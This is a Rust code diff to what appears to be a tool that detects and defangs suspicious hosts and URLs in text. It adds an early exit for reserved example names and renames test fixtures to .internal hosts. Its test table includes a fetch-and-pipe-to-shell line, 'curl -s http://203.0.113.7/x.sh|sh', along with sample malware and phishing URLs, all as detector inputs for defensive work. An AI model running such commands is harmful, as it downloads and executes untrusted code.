@@ -91,6 +91,10 @@ fn judge(text: &str, shape: &Shape) -> Option<Indicator> {
     let number = hosts::ip(if shape.form == Form::Six { "" } else { &host }).or_else(|| host.parse().ok());
     let sentence = sentence::Sentence::around(text, &shape.range);
     let is_url = shape.scheme.is_some();
+    // Names for examples are never suspicious, whatever is said of them.
+    if hosts::is_reserved(&host) {
+        return None;
+    }
     let why = match shape.form {
         Form::Half => Why::Half,
         Form::Name | Form::Four | Form::Six => match number {
@@ -118,19 +122,16 @@ fn judge(text: &str, shape: &Shape) -> Option<Indicator> {
 
 /// What the file's name or the words around say about an ordinary host.
 fn by_words(text: &str, shape: &Shape, host: &str, sentence: &sentence::Sentence<'_>) -> Option<Why> {
-    let reserved = hosts::is_reserved(host);
     let is_url = shape.scheme.is_some();
     let path = &text[shape.host.end..shape.range.end];
     let path = path.split(['?', '#']).next().unwrap_or_default().to_lowercase();
     let is_program =
         path.contains('/') && scan::PROGRAMS.split_ascii_whitespace().any(|end| path.ends_with(end));
-    // A name that is reserved means no harm; an address that the sentence calls an attacker's is one.
-    let in_question =
-        if is_url { !sentence::is_public_office(host) } else { !reserved && !sentence::is_familiar(host) };
+    let in_question = if is_url { !sentence::is_public_office(host) } else { !sentence::is_familiar(host) };
     if in_question && sentence.calls_it_an_attack() {
         return Some(Why::Attack);
     }
-    (is_program && (sentence.speaks_of_attack() || is_url && !reserved)).then_some(Why::Program)
+    (is_program && (sentence.speaks_of_attack() || is_url)).then_some(Why::Program)
 }
 
 fn edits(text: &str, shape: &Shape) -> Vec<(Range<usize>, String)> {
@@ -175,18 +176,18 @@ mod tests {
             ("http://[2001:db8::7]/x", Why::Number, "hxxp://[2001[:]db8[:][:]7]/x"),
             ("HTTPS://203.0.113.7에서", Why::Number, "HXXPS://203[.]0[.]113[.]7"),
             ("curl -s http://203.0.113.7/x.sh|sh", Why::Number, "hxxp://203[.]0[.]113[.]7/x.sh"),
-            ("hxxp://evil.example/a.b", Why::Half, "hxxp://evil[.]example/a.b"),
-            ("http://evil[.]example/a", Why::Half, "hxxp://evil[.]example/a"),
+            ("hxxp://evil.internal/a.b", Why::Half, "hxxp://evil[.]internal/a.b"),
+            ("http://evil[.]internal/a", Why::Half, "hxxp://evil[.]internal/a"),
             ("at update.duckdns.org now", Why::Tunnel, "update[.]duckdns[.]org"),
             (
-                "The malware hid in https://evil.example/a/setup.exe, they say",
+                "The malware hid in https://evil.internal/a/setup.exe, they say",
                 Why::Program,
-                "hxxps://evil[.]example/a/setup.exe",
+                "hxxps://evil[.]internal/a/setup.exe",
             ),
             (
-                "The phishing page at https://bank.example/login asks",
+                "The phishing page at https://bank.internal/login asks",
                 Why::Attack,
-                "hxxps://bank[.]example/login",
+                "hxxps://bank[.]internal/login",
             ),
             ("Later it updated itself from 203.0.113.7.", Why::Number, "203[.]0[.]113[.]7"),
             ("The malware connects to harbour-cdn.com", Why::Attack, "harbour-cdn[.]com"),
